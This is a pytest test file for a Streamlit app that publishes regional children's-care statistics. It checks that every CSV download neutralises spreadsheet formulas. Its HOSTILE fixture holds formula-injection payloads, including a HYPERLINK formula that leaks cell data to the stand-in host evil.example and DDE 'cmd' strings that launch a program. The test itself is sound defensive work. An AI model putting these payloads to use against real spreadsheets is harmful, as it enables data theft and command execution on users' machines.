"""Every download of every page, scanned: no cell a spreadsheet would run as a formula, even when
the database holds hostile text (written straight into it, as an older version might have let
through). The files are captured from Streamlit's own media storage as a browser would fetch them."""
from __future__ import annotations

import os

import pytest
from sqlalchemy import update
from sqlmodel import Session

from regional import db, exports, models, returns
from tests.conftest import PROJECT_DIR

PAGES = ["overview.py", "pages/1_Children_in_care.py", "pages/2_Fostering.py", "pages/3_Residential.py",
         "pages/4_Placement_distance.py", "pages/8_Status.py"]
HOSTILE = {"title": '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Source document (click)")',
           "section": "+cmd|' /C calc'!A0", "note": "@SUM(1+1)*cmd|' /C calc'!A0"}


@pytest.fixture(scope="module")
def hostile_database(tmp_path_factory):
    """A database of its own (the pages read DATABASE_URL), holding a return with hostile text."""
    import streamlit as st

    from tests import hostile

    url = f"sqlite:///{tmp_path_factory.mktemp('downloads') / 'd.sqlite'}"
    previous = os.environ["DATABASE_URL"]
    os.environ["DATABASE_URL"] = url
    st.cache_resource.clear()
    engine = db.get_engine(url)
    db.load_default(engine)
    folder = tmp_path_factory.mktemp("ret")
    rows = [{**hostile.GOOD["council_return"], "council": "BCP", "indicator": "cic_rate_per_10k",
             "period": "2026-06-30", "value": "88", "document": "Hostile document"}]
    path = folder / "bcp_return.csv"
    path.write_bytes(hostile.rows_csv(rows))
    returns.load_council_return(path, engine)
    with Session(engine) as session, session.begin():
        source = models.Source.id.like("council-%hostile-document%")
        session.execute(update(models.Source).where(source).values(title=HOSTILE["title"]))
        session.execute(update(models.Observation).where(models.Observation.source_id.like("council-%hostile-document%"))
                        .values(section=HOSTILE["section"], note=HOSTILE["note"]))
    yield engine
    os.environ["DATABASE_URL"] = previous
    st.cache_resource.clear()


@pytest.fixture
def captured(monkeypatch):
    """Every file a page hands to Streamlit for download: {file id: bytes}."""
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    files: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def load_and_get_id(self, path_or_data, mimetype, kind, filename=None):
        file_id = original(self, path_or_data, mimetype, kind, filename)
        files[file_id] = path_or_data if isinstance(path_or_data, bytes) else open(path_or_data, "rb").read()
        return file_id

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", load_and_get_id)
    return files


def _downloads(at, files: dict[str, bytes]) -> dict[str, bytes]:
    out = {}
    for button in at.get("download_button"):
        url = button.proto.url
        match = [data for file_id, data in files.items() if file_id in url]
        assert match, f"download {button.label!r} not captured"
        out[f"{button.label} ({url.rsplit('.', 1)[-1]})#{len(out)}"] = match[0]
    return out


@pytest.mark.parametrize("page", PAGES)
def test_every_download_is_formula_safe(hostile_database, captured, page):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(PROJECT_DIR / page), default_timeout=90).run()
    assert not at.exception, [e.value for e in at.exception]
    if page.endswith("Placement_distance.py"):  # the one-council and UASC-only views have downloads of their own
        at.multiselect(key="dist_councils").set_value(["E06000058"]).run()
        at.radio(key="dist_uasc").set_value("UASC only").run()
        assert not at.exception
    downloads = _downloads(at, captured)
    if page != "pages/8_Status.py":
        assert downloads, "the page offers no download"
    csvs = {name: data for name, data in downloads.items() if not name.endswith("md)") and b"," in data[:2000]}
    for name, data in csvs.items():
        assert exports.formula_cells(data) == [], name
    if page == "overview.py":  # the hostile title is there, neutralised, so the scan could have failed
        text = b"".join(csvs.values()).decode("utf-8-sig", errors="replace")
        assert "'=HYPERLINK" in text and HOSTILE["title"].replace('"', '""') in text
